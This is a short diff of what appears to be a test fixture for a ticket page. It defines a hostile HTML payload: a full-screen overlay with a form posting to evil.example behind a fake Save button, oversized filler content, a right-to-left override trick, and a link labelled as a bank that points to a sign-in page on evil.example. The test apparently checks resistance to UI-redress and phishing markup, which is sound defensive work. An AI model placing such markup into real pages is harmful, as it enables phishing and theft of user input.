@@ -13,7 +13,7 @@ CODE = "ABCXYZ1234"
 URL = f"/tickets/{CODE}/"
 HOSTILE = (
     '<div style="position:fixed;inset:0;z-index:9999;background:#fff" class="bar savebar" id="main">'
-    '<form action="https://evil.example"><button name="status_name" data-save-button>Save</button>'
+    '<form action="https://evil.example"><button name="status_name" data-shortcuts-save-button>Save</button>'
     "</form></div>"
     f"<h1>{'W' * 4000}</h1><table><tr>{'<td>ô</td>' * 300}</tr></table><p dir='rtl'>\u202eesrever</p>"
     '<a href="https://evil.example/sign-in">https://bank.com</a>'
